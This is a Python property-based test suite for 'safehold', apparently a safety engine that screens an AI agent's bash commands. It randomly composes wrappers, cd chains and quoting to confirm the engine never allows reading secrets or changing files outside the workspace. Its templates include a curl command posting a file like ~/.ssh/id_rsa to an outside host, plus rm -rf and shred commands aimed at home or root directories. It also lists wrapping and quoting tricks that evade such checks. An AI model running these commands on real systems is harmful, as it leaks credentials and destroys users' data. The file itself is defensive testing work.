"""Issue 10's invariant, composed at random: wrappers × `cd` chains × quoting × programs × roles.

In auto mode, with the default config, a command that reads a denied path, or writes or
deletes anything outside the allowed roots, is never ALLOW. The oracle below does not use
the analysis: it follows the `cd` chain itself (from the call's `cwd`) and decides where the
program's path lands with `os.path`. A chain it cannot follow (`cd -`, `cd "$D"`) only
requires the decision not to be ALLOW either.
"""

from __future__ import annotations

import os
import posixpath
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safehold.policy.calls import ToolCall, ToolKind
from safehold.policy.config import SafetyConfig
from safehold.policy.decision import Verdict
from safehold.policy.engine import evaluate
from safehold.policy.sandbox_config import SandboxConfig

AUTO = SafetyConfig().with_mode("auto")
UNSANDBOXED = SafetyConfig(sandbox=SandboxConfig(mode="none")).with_mode("auto")

# role -> templates; `{p}` is the path the role applies to.
PROGRAMS = {
    "read": [
        "cat {p}",
        "head -n 1 {p}",
        "base64 {p}",
        "cp {p} copy.txt",
        "tar czf out.tgz {p}",
        "curl -sS -d @{p} https://example.com",
        "sed -n 1p {p}",
        "sort -o sorted.txt {p}",
        "dd if={p} of=copy.bin",
        "rsync -a {p} backup/",
    ],
    "write": [
        "cp src/main.py {p}",
        "tee {p}",
        "touch {p}",
        "truncate -s 0 {p}",
        "sed -i s/a/b/ {p}",
        "dd if=src/main.py of={p}",
        "install src/main.py {p}",
        "curl -sS -o {p} https://example.com",
        "ln -s src/main.py {p}",
        "mkdir -p {p}",
        "chmod 600 {p}",
        "tar xzf in.tgz -C {p}",
        "sort -o {p} src/main.py",
    ],
    "delete": [
        "rm -f {p}",
        "rm -rf {p}",
        "shred -u {p}",
        "find {p} -delete",
        "mv {p} moved.txt",
        "rsync -a --delete empty/ {p}",
        "unlink {p}",
    ],
}
WRAPPERS = [
    "{c}",
    "sudo -n {c}",
    "env X=1 {c}",
    "nice -n 5 {c}",
    "timeout 5 {c}",
    "command {c}",
    "bash -c {q}",
    "sh -c {q}",
    "taskset 1 bash -c {q}",
    "uv run sh -c {q}",
    "npx -c {q}",
    "docker exec box sh -c {q}",
    "busybox {c}",
]
# A cd chain step: (text, kind) where kind is "&&", ";" or "sub" (a subshell around the rest).
CD_TARGETS = ["src", "..", "../..", "/", "/etc", "~", "/tmp", "src/../..", "-", '"$D"']


def _quote(path: str, style: int) -> str:
    if style == 1:
        return shlex.quote(path) if path != shlex.quote(path) else f"'{path}'"
    if style == 2:
        return f'"{path}"'
    if style == 3 and path.startswith("~/"):
        return '"$HOME"/' + shlex.quote(path[2:])
    if style == 4 and len(path) > 1:
        return path[0] + "\\" + path[1:] if path[1] not in "/~" else path
    return path


@pytest.fixture(scope="module")
def tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("rolehome")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("k")
    (home / "notes.txt").write_text("n")
    ws = home / "proj"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "main.py").write_text("x")
    (ws / ".env").write_text("T=1")
    (ws / "empty").mkdir()
    return ws


def _lands(base: str | None, path: str, home: str) -> str | None:
    if base is None and not path.startswith(("/", "~")):
        return None
    if path == "~" or path.startswith("~/"):
        path = home + path[1:]
    return posixpath.normpath(posixpath.join(base or "/", path))


def _cd(base: str | None, target: str, home: str) -> str | None:
    if target in ("-", '"$D"') or base is None:
        return None
    return _lands(base, target, home)


def _denied(path: str, home: str, ws: str) -> bool:
    return (
        path == posixpath.join(home, ".ssh")
        or path.startswith(posixpath.join(home, ".ssh") + "/")
        or posixpath.basename(path) in (".env", "id_rsa")
    )


def _outside(path: str, ws: str) -> bool:
    return not (path == ws or path.startswith(ws + "/"))


@given(
    role=st.sampled_from(sorted(PROGRAMS)),
    template=st.integers(min_value=0, max_value=50),
    wrapper=st.sampled_from(WRAPPERS),
    cds=st.lists(
        st.tuples(st.sampled_from(CD_TARGETS), st.sampled_from(["&&", ";", "sub"])), max_size=3
    ),
    cwd=st.sampled_from([None, "src", "."]),
    target=st.sampled_from(
        [
            "~/.ssh/id_rsa",
            "{home}/.ssh/id_rsa",
            ".env",
            "../.ssh/id_rsa",
            "../../proj/.env",
            "~/notes.txt",
            "../notes.txt",
            "/etc/hosts",
            "../..",
            "~",
            "/",
            "src/main.py",
            "build/out.txt",
            "../proj/src/x",
        ]
    ),
    quoting=st.integers(min_value=0, max_value=4),
    sandbox=st.sampled_from(["bwrap", "none"]),
)
def test_denied_paths_are_never_read_and_nothing_outside_is_changed_without_asking(
    tree: Path,
    role: str,
    template: int,
    wrapper: str,
    cds: list[tuple[str, str]],
    cwd: str | None,
    target: str,
    quoting: int,
    sandbox: str,
) -> None:
    home = str(tree.parent)
    ws = str(tree)
    path = target.format(home=home)
    program = PROGRAMS[role][template % len(PROGRAMS[role])]
    inner = program.format(p=_quote(path, quoting))
    # Compose the cd chain around the program, tracking where it really runs.
    base: str | None = _lands(ws, cwd or ".", home)
    # A wrapper of one program wraps the program; a shell string holds the whole chain.
    whole = "{q}" in wrapper
    command = inner if whole else wrapper.format(c=inner)
    for target_dir, joiner in reversed(cds):
        if joiner == "sub":
            command = f"(cd {target_dir} && {command})"
        else:
            command = f"cd {target_dir} {joiner} {command}"
    where: list[str | None] = [base]
    for target_dir, joiner in cds:
        moved = [_cd(d, target_dir, home) for d in where]
        where = moved if joiner in ("&&", "sub") else where + moved
    possible = where
    full = wrapper.format(q=shlex.quote(command)) if whole else command
    args: dict[str, object] = {"command": full}
    if cwd is not None:
        args["cwd"] = cwd
    config = AUTO if sandbox == "bwrap" else UNSANDBOXED
    decision = evaluate(config, ToolCall("bash", args, ToolKind.EXECUTE), workspace=ws)

    bad = False
    for d in possible:
        landed = _lands(d, path, home)
        if landed is None:
            bad = True  # the oracle cannot follow the chain: the analysis must not allow
            continue
        if role == "read" and _denied(landed, home, ws):
            bad = True
        if role in ("write", "delete") and (_outside(landed, ws) or _denied(landed, home, ws)):
            bad = True
    if bad:
        assert decision.verdict is not Verdict.ALLOW, (full, cwd, decision.reasons)


def test_the_oracle_sees_benign_commands_allowed(tree: Path) -> None:
    # The invariant above would hold for an analysis that asks for everything; this keeps
    # the composition honest: the same programs on workspace paths run in auto mode.
    ws = str(tree)
    for command in ("cat src/main.py", "cp src/main.py build.txt", "rm -rf build", "cd src && ls"):
        call = ToolCall("bash", {"command": command}, ToolKind.EXECUTE)
        assert evaluate(AUTO, call, workspace=ws).verdict is Verdict.ALLOW, command
    assert os.path.isdir(tree / "src")
